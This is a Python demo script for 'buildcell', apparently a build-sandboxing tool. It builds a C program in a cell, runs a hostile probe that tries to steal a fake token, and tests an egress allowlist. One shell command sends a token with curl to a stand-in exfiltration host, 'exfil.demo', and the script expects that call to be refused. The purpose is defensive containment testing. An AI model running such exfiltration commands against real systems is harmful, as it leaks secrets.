"""`make demo`: compile and run a C program in a cell, contain a hostile build, allow one host."""

from __future__ import annotations

import http.server
import os
import shutil
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

HERE = Path(__file__).resolve().parent
BUILDCELL = [sys.executable, "-m", "buildcell"]


def say(text: str) -> None:
    print(f"\n\033[1m== {text}\033[0m" if sys.stdout.isatty() else f"\n== {text}", flush=True)


def run(args: list[str], env: dict[str, str] | None = None) -> int:
    print("$ buildcell " + " ".join(args), flush=True)
    return subprocess.run([*BUILDCELL, *args], env=env, check=False).returncode


class _Mirror(http.server.BaseHTTPRequestHandler):
    """Stands in for a package mirror on the host's loopback."""

    def do_GET(self) -> None:
        body = b"simple index\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


def main() -> int:
    work = Path(tempfile.mkdtemp(prefix="buildcell-demo-"))
    try:
        say("1. Build examples/hello-c from its buildcell.yaml: one fresh cell per step")
        spec = HERE / "hello-c" / "buildcell.yaml"
        rc = run(["build", "-f", str(spec), "--out", str(work / "out")])
        if rc != 0:
            print(f"the build failed with exit status {rc}")
            return rc
        binary = work / "out" / "build" / "hello"
        print(f"\n$ {binary}", flush=True)
        subprocess.run([str(binary)], check=True)
        untouched = sorted(p.name for p in (HERE / "hello-c").iterdir())
        print(f"the source directory is untouched: {untouched}")

        say("2. A hostile build step tries to steal secrets and phone home")
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Mirror)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        port = server.server_address[1]
        env = dict(os.environ, DEMO_RUNNER_TOKEN="ghp_demo-not-a-real-token")
        print(
            f"(the host has DEMO_RUNNER_TOKEN in its environment and a server on 127.0.0.1:{port})"
        )
        rc = run(
            [
                "run",
                "--source",
                str(HERE / "hostile"),
                "--env",
                f"DEMO_HOST_PORT={port}",
                "--timeout",
                "60s",
                "--",
                "python3",
                "probe.py",
            ],
            env=env,
        )
        if rc != 0:
            server.shutdown()
            print("something leaked: see above")
            return 1

        say("3. Egress by name: one host allowed, everything else refused and recorded")
        print(f"(a package mirror stands in on 127.0.0.1:{port}, pinned as mirror.demo)")
        rc = run(
            [
                "run",
                "--allow",
                f"mirror.demo:{port}",
                "--allow",
                f"127.0.0.1:{port}",
                "--add-host",
                "mirror.demo:127.0.0.1",
                "--",
                "sh",
                "-c",
                f"curl -s -o /dev/null -w 'mirror.demo: HTTP %{{http_code}}\\n' "
                f"http://mirror.demo:{port}/; "
                "curl -s http://exfil.demo/?token=x; "
                "getent hosts exfil.demo || echo 'exfil.demo: no such name in this cell'",
            ]
        )
        server.shutdown()
        if rc != 0:
            print("the egress demo failed: see above")
            return 1
        say("Everything was contained. Try `buildcell doctor` to see what this host enforces.")
        return 0
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    raise SystemExit(main())
